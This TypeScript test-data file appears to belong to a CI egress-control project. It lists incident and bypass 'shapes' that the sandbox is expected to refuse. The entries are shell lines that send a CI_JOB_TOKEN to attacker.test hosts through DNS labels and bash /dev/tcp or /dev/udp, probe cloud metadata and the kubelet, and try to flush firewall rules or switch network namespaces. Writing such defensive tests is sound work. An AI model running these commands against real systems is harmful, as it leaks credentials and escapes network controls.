/**
 * The shapes of traffic that incidents and bypasses had, one by one, and the verdict that each must get
 * under the presets gitlab-com, npm and pypi: the list of what a replay has to show, as data.
 */
import type { Row } from './incident.ts';
import { passingShapes } from './passing-shapes.ts';
import { GITHUB_API, KUBERNETES } from './places.ts';
import { policies } from './policies.ts';
import { fakeSecrets } from './secrets.ts';
import type { Shape } from './shape.ts';
import {
  axios,
  bare,
  cluster,
  curl,
  doh,
  drop,
  GIT,
  github,
  host,
  metadata,
  metadata6,
  node,
  post,
  resolvers,
  six,
} from './shape-places.ts';

const gitlab = policies.gitlab.spec;
const by = 'sh > curl';
const refused = (to: string, reason: Row['reason'] = 'default', who = by): Row => ({
  ...{ to, by: who, reason },
});

/** The longest label that DNS has, of a secret's bytes in hex. */
const label = Buffer.from(fakeSecrets('shape5').CI_JOB_TOKEN ?? '')
  .toString('hex')
  .slice(0, 62);

const refusedShapes: readonly Shape[] = [
  {
    number: 1,
    shape: 'POST to an unknown HTTPS domain',
    verdict: 'refused',
    expected: 'refused at DNS, and at connect where the address is known already',
    notHere: '',
    parts: [
      {
        script: `
          ${post} https://${drop.name}/
          ${post} --resolve ${drop.name}:443:${drop.address} https://${drop.name}/`,
        rows: [refused(drop.name), refused(`${drop.address}:443`)],
        control: [`DNS ${drop.name}`, `POST ${drop.name}/`, `POST ${drop.name}/`],
      },
    ],
  },
  {
    number: 2,
    shape: 'HTTP to an unknown domain on port 8000',
    verdict: 'refused',
    expected: 'refused',
    notHere: '',
    parts: [
      {
        script: `${post} http://${axios.name}:8000/6202033`,
        rows: [refused(axios.name)],
        control: [`DNS ${axios.name}`, `POST ${axios.name}:8000/6202033`],
      },
    ],
  },
  {
    number: 3,
    shape: 'a bare address on ports 8080 and 8443, no DNS',
    verdict: 'refused',
    expected: 'refused',
    notHere: '',
    parts: [
      {
        script: `${post} http://${bare}:8080/; ${post} https://${bare}:8443/`,
        rows: [refused(`${bare}:8080`), refused(`${bare}:8443`)],
        control: [`POST ${bare}:8080/`, `POST ${bare}:8443/`],
      },
    ],
  },
  {
    number: 4,
    shape: 'UDP and TCP port 53 to outside resolvers',
    verdict: 'refused',
    expected: 'our own resolver answers in their place, and refuses the name',
    notHere: '',
    parts: [
      {
        script: `
          dig +tries=1 +timeout=2 @${resolvers.udp} u.attacker.test
          dig +tries=1 +timeout=2 +tcp @${resolvers.tcp} t.attacker.test`,
        rows: [
          refused('u.attacker.test', 'default', 'sh > dig'),
          refused('t.attacker.test', 'default', 'sh > dig'),
        ],
        control: [`datagram ${resolvers.udp}:53`, `data ${resolvers.tcp}:53`],
      },
    ],
  },
  {
    number: 5,
    shape: 'secrets in long labels of TXT queries, through the configured resolver',
    verdict: 'refused',
    expected: 'refused by our resolver: nobody is asked',
    notHere: '',
    parts: [
      {
        script: `
          label=$(printf %s "$CI_JOB_TOKEN" | od -An -v -tx1 | tr -d ' \\n' | cut -c-62)
          dig +tries=1 +timeout=2 TXT "$label.t.attacker.test"`,
        rows: [refused(`${label}.t.attacker.test`, 'default', 'sh > dig')],
        // dig prints what it asked, and a row has the name that was refused.
        log: 'secrets',
        control: [`DNS ${label}.t.attacker.test`],
      },
    ],
  },
  {
    number: 6,
    shape: 'DNS over HTTPS to dns.google',
    verdict: 'refused',
    expected: 'refused by name and by address, even where a policy lists it',
    notHere: '',
    parts: [
      { title: 'everyday policy', spec: gitlab },
      { title: 'listed', spec: { ...gitlab, allow: [{ fqdn: [doh.name] }] } },
    ].map((part) => ({
      ...part,
      script: `
        ${post} https://${doh.name}/dns-query
        ${post} --resolve ${doh.name}:443:${doh.address} https://${doh.name}/dns-query`,
      rows: [refused(doh.name, 'doh'), refused(`${doh.address}:443`, 'doh')],
      control: [`DNS ${doh.name}`, `POST ${doh.name}/dns-query`, `POST ${doh.name}/dns-query`],
    })),
  },
  {
    number: 7,
    shape: 'cloud metadata: five addresses and metadata.google.internal',
    verdict: 'refused',
    expected: 'refused always',
    notHere: '',
    parts: [
      {
        script: [
          ...metadata.map((address) => `${curl} http://${address}/`),
          `${curl} -g 'http://[${metadata6}]/'`,
          `${curl} http://metadata.google.internal/`,
        ].join('\n'),
        rows: [
          ...metadata.map((address) => refused(`${address}:80`, 'metadata')),
          refused(`${metadata6}:80`, 'ipv6'),
          refused('metadata.google.internal', 'metadata'),
        ],
        control: [
          ...metadata.map((address) => `GET ${address}/`),
          `GET [${metadata6}]/`,
          'DNS metadata.google.internal',
          'GET metadata.google.internal/',
        ],
      },
    ],
  },
  {
    number: 8,
    shape: 'the Kubernetes API by name and address, a kubelet on port 10250',
    verdict: 'refused',
    expected: 'refused unless listed',
    notHere: '',
    parts: [
      {
        title: 'everyday policy',
        script: `
          ${post} https://${cluster}/; ${post} https://${KUBERNETES}/
          ${post} https://${node.address}:10250/`,
        rows: [refused(cluster), refused(`${KUBERNETES}:443`), refused(`${node.address}:10250`)],
        control: [
          `DNS ${cluster}`,
          `POST ${cluster}/`,
          `POST ${KUBERNETES}/`,
          `POST ${node.address}:10250/`,
        ],
      },
      {
        title: 'the API listed by its address',
        spec: { ...gitlab, allow: [{ cidr: [`${KUBERNETES}/32`] }] },
        script: `${curl} https://${KUBERNETES}/; ${curl} https://${node.address}:10250/`,
        rows: [refused(`${node.address}:10250`)],
        arrives: [`GET ${KUBERNETES}/`],
        control: [`GET ${KUBERNETES}/`, `GET ${node.address}:10250/`],
      },
    ],
  },
  {
    number: 10,
    shape: 'POST /user/repos to api.github.com',
    verdict: 'refused',
    expected: 'refused: in no preset, not in github-read either',
    notHere: '',
    parts: [
      { title: 'everyday policy', spec: gitlab },
      { title: 'and github-read', spec: policies.github.spec },
    ].map((part) => ({
      ...part,
      script: `${post} https://${GITHUB_API}/user/repos`,
      rows: [refused(GITHUB_API)],
      control: [`DNS ${GITHUB_API}`, `POST ${GITHUB_API}/user/repos`],
    })),
  },
  {
    number: 11,
    shape: 'SSH to a host that is allowed for HTTPS',
    verdict: 'refused',
    expected: 'refused: the port is not allowed',
    notHere: '',
    parts: [
      {
        title: 'by hand',
        script: `
          ${curl} https://${host.name}/
          bash -c 'echo "SSH-2.0-x $CI_JOB_TOKEN" >/dev/tcp/${host.name}/22'`,
        rows: [refused(`${host.name}@${host.address}:22`, 'port', 'sh > bash')],
        arrives: [`GET ${host.name}/`],
        control: [`DNS ${host.name}`, `GET ${host.name}/`, `data ${host.address}:22`],
      },
      {
        title: 'a git dependency of npm, which falls back to SSH',
        spec: policies.github.spec,
        script: `
          export GIT_SSH_COMMAND='ssh -oConnectTimeout=4 -oStrictHostKeyChecking=no'
          npm install github:victim/library`,
        rows: [refused(`github.com@${github}:22`, 'port', 'sh > npm install > git > sh > ssh')],
        arrives: [GIT],
        control: ['DNS github.com', GIT, `data ${github}:22`],
        needs: ['git', 'ssh'],
      },
    ],
  },
  {
    number: 12,
    shape: 'IPv6, IPv4-mapped addresses, UDP 443 (QUIC) to an allowed host',
    verdict: 'refused',
    expected:
      'IPv6 refused always, the mapped form as the IPv4 one, QUIC because TCP 443 is not UDP 443',
    notHere: '',
    parts: [
      {
        script: `
          ${post} -g 'https://[${six}]/'
          ${post} -g 'https://[::ffff:${drop.address}]/'
          ${curl} https://${host.name}/
          bash -c 'echo "$CI_JOB_TOKEN" >/dev/udp/${host.name}/443'`,
        rows: [
          refused(`${six}:443`, 'ipv6'),
          refused(`${drop.address}:443`),
          refused(`${host.name}@${host.address}:443/udp`, 'port', 'sh > bash'),
        ],
        arrives: [`GET ${host.name}/`],
        control: [
          `POST [${six}]/`,
          `POST [::ffff:${drop.address}]/`,
          `DNS ${host.name}`,
          `GET ${host.name}/`,
          `datagram ${host.address}:443`,
        ],
      },
    ],
  },
  {
    number: 13,
    shape: 'exfiltration before the policy is ready',
    verdict: 'refused',
    expected: 'the first act of the command is refused already',
    notHere:
      'Service containers and init-permissions are containers of a pod: not before there is the agent.',
    parts: [
      {
        script: '',
        command: ['bash', '-c', `echo "$CI_JOB_TOKEN" >/dev/tcp/${drop.address}/4444; true`],
        rows: [refused(`${drop.address}:4444`, 'default', 'bash')],
        control: [`data ${drop.address}:4444`],
      },
    ],
  },
  {
    number: 14,
    shape: 'taking the enforcement off: firewall rules, a new network namespace, setns',
    verdict: 'refused',
    expected:
      'refused: the command has no capability for it, and no firewall rule is what holds it',
    notHere: 'Privileged pods are for admission to refuse: not before there is the webhook.',
    parts: [
      {
        script: `
          nft flush ruleset && echo flushed
          unshare --net true && echo a new namespace
          nsenter --target $$ --net true && echo setns
          ${post} https://${drop.address}/`,
        rows: [refused(`${drop.address}:443`)],
        log: /^(?![\s\S]*(flushed|a new namespace|setns))/,
        controlLog: /flushed\na new namespace\nsetns/,
        control: [`POST ${drop.address}/`],
      },
    ],
  },
];

export const shapes: readonly Shape[] = [...refusedShapes, ...passingShapes].sort(
  (one, other) => one.number - other.number,
);
